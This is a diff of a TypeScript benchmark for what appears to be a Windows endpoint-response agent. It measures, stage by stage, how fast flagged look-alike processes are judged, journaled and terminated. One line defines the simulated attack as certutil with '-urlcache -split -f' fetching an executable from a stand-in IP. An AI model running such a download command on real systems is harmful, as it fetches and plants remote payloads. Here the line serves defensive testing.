@@ -6,22 +6,25 @@ import { openEngine } from '../src/agent/engine.ts';
 import { saveMemory } from '../src/agent/memory-saving.ts';
 import { openLiveResponse } from '../src/agent/response-desk.ts';
 import { type Config, loadConfig } from '../src/config/index.ts';
-import { type Action, type ProcessPort, ResponseStage } from '../src/response/index.ts';
+import { type Action, type ProcessPort, type ResponseJournal, ResponseStage } from '../src/response/index.ts';
 import { EtwSource } from '../src/source/etw.ts';
 import { Store } from '../src/store/index.ts';
 import { defaultFfi, ProcessControl } from '../src/windows/index.ts';
 import { DoubleScript } from '../test/windows/live/double-script.ts';
 import { LookAlike } from '../test/windows/live/look-alike.ts';
 import { openTestLibrary } from '../test/windows/live/open-test-library.ts';
+import { FlushedPage } from './flushed-page.ts';
 
 /**
  * How long a flagged process lives after its start is in the library's ring: through reader thread, decoding,
  * model, rules, guard and journal until TerminateProcess has returned and the process is gone. Real processes
  * with their true identity, told by the double of ETW, one after the other; without evidence, then with it.
- * `node test/windows/bench.ts response-live`, under Wine on Linux. PC_BENCH_VICTIMS: how many of each (120).
+ * Of what that takes, `journal_flush` is the one write that an act waits for, and `disk_flush` what the disk takes for
+ * a page at the same time, whoever asks: the difference between two runs may be no more than that.
+ * `node test/windows/bench.ts response-live`, under Wine on Linux. PC_BENCH_VICTIMS: how many of each (300).
  * PC_BENCH_FOLDER: where the journal is, such as a disk of its own (the system's temporary folder).
  */
-const victims = Number(process.env['PC_BENCH_VICTIMS'] ?? 120);
+const victims = Number(process.env['PC_BENCH_VICTIMS'] ?? 300);
 const root = process.env['PC_BENCH_FOLDER'] ?? tmpdir();
 /** In the first ones the code is compiled and the reader thread starts. */
 const warmUp = 20;
@@ -32,10 +35,11 @@ const attack = ['-urlcache', '-split', '-f', 'http://203.0.113.7/a.exe', 'c:\\us
 const clock = { nowMs: () => performance.timeOrigin + performance.now() };
 
 /**
- * In their order: decided, library asked about the process, it has answered, the process stands still for its
- * evidence, library told to end it, it has.
+ * In their order: decided, library asked about the process, it has answered, the guard as well, the journal's line is
+ * on the disk, the process stands still for its evidence, library told to end it, TerminateProcess has returned.
  */
-type Stage = 'decided' | 'asked' | 'looked' | 'stopped' | 'called' | 'ended';
+const stages = ['decided', 'asked', 'looked', 'judged', 'written', 'stopped', 'called', 'ended'] as const;
+type Stage = (typeof stages)[number];
 type CallTimes = { readonly [stage in Exclude<Stage, 'decided'>]?: number };
 
 saveMemory();
@@ -63,6 +67,7 @@ async function measure(name: string, evidenceFolder: string | null): Promise<voi
     },
   });
   const calls = new Map<number, CallTimes>();
+  observeJournal(response.journal, calls);
   const stage = new ResponseStage({
     ...response.parts,
     control: observeCalls(response.parts.control, calls),
@@ -86,14 +91,13 @@ async function measure(name: string, evidenceFolder: string | null): Promise<voi
     }
   })();
   etw.say('running', process.pid, 4, 0, '\\Device\\HarddiskVolume3\\Windows\\explorer.exe', 'explorer.exe');
-  const delaysMs: Record<Stage, number[]> = {
-    decided: [],
-    asked: [],
-    looked: [],
-    stopped: [],
-    called: [],
-    ended: [],
-  };
+  const delaysMs = Object.fromEntries(stages.map((each) => [each, [] as number[]])) as Record<
+    Stage,
+    number[]
+  >;
+  const journalFlushMs: number[] = [];
+  const diskFlushMs: number[] = [];
+  const page = new FlushedPage(folder);
   for (let index = 0; index < warmUp + victims; index++) {
     const victim = new LookAlike('certutil.exe', attack);
     try {
@@ -107,9 +111,9 @@ async function measure(name: string, evidenceFolder: string | null): Promise<voi
       if (index < warmUp) continue;
       const startMs = ringMs.get(victim.pid)!;
       delaysMs.decided.push(atMs - startMs);
-      for (const [stage, timeMs] of Object.entries(calls.get(victim.pid)!)) {
-        delaysMs[stage as Stage].push(timeMs - startMs);
-      }
+      const times = calls.get(victim.pid)!;
+      for (const [stage, timeMs] of Object.entries(times)) delaysMs[stage as Stage].push(timeMs - startMs);
+      journalFlushMs.push(times.written! - times.judged!);
     } finally {
       victim.kill();
       // A pid may come again.
@@ -119,8 +123,11 @@ async function measure(name: string, evidenceFolder: string | null): Promise<voi
     }
     // The bundle of one is written before the next begins: policies allow five actions a minute, not ten a second.
     await stage.settle();
-    await wait(spacingMs);
+    await wait(spacingMs / 2);
+    if (index >= warmUp) diskFlushMs.push(page.flush());
+    await wait(spacingMs / 2);
   }
+  page.close();
   stop.abort();
   await reading;
   await stage.settle();
@@ -128,14 +135,21 @@ async function measure(name: string, evidenceFolder: string | null): Promise<voi
   await engine.scorer.close();
   store.close();
   report(`${name}.processes`, delaysMs.ended.length, '');
-  for (const [what, values] of Object.entries(delaysMs)) {
-    if (values.length === 0) continue;
-    const sorted = Float64Array.from(values).sort();
-    for (const part of [0.5, 0.9, 0.99]) {
-      report(`${name}.ring_to_${what}_p${part * 100}`, sorted[Math.floor(sorted.length * part)]!, 'ms');
-    }
-    report(`${name}.ring_to_${what}_max`, sorted.at(-1)!, 'ms');
-  }
+  for (const [what, values] of Object.entries(delaysMs)) reportSpread(`${name}.ring_to_${what}`, values);
+  reportSpread(`${name}.journal_flush`, journalFlushMs);
+  reportSpread(`${name}.disk_flush`, diskFlushMs);
+}
+
+/** Notes when the guard had judged, which is when the journal is asked, and when the journal had written. */
+function observeJournal(journal: ResponseJournal, calls: Map<number, CallTimes>): void {
+  const begin = journal.begin.bind(journal);
+  journal.begin = (action, holds) => {
+    const judged = clock.nowMs();
+    const isNew = begin(action, holds);
+    const pid = action.subject.target?.pid ?? 0;
+    calls.set(pid, { ...calls.get(pid), judged, written: clock.nowMs() });
+    return isNew;
+  };
 }
 
 /** Notes when the library was asked about a process and answered, and when TerminateProcess had returned there. */
@@ -161,14 +175,12 @@ function observeCalls(port: ProcessPort, calls: Map<number, CallTimes>): Process
     resume: (target) => port.resume(target),
     terminateTree: (target) => port.terminateTree(target),
     tree: (target) => port.tree(target),
-    async terminate(target) {
+    terminate(target) {
       const called = clock.nowMs();
-      const result = await port.terminate(target);
-      // After the system call, the library waits for the process to be gone.
-      if (!('actMs' in result) || !('totalMs' in result)) fail('no times');
-      const waitedMs = Number(result.totalMs) - Number(result.actMs);
-      calls.set(target.pid, { ...calls.get(target.pid)!, called, ended: clock.nowMs() - waitedMs });
-      return result;
+      // By then it is told to end; that it is gone is waited for.
+      const ending = port.terminate(target);
+      calls.set(target.pid, { ...calls.get(target.pid)!, called, ended: clock.nowMs() });
+      return ending;
     },
   };
 }
@@ -191,6 +203,16 @@ function armed(stateFile: string, evidenceFolder: string | null): Config {
 
 function fail(why: string): never {
   throw new Error(why);
+}
+
+/** Of nothing, nothing. */
+function reportSpread(name: string, values: readonly number[]): void {
+  if (values.length === 0) return;
+  const sorted = Float64Array.from(values).sort();
+  for (const part of [0.5, 0.9, 0.99]) {
+    report(`${name}_p${part * 100}`, sorted[Math.floor(sorted.length * part)]!, 'ms');
+  }
+  report(`${name}_max`, sorted.at(-1)!, 'ms');
 }
 
 function report(name: string, value: number, unit: string): void {
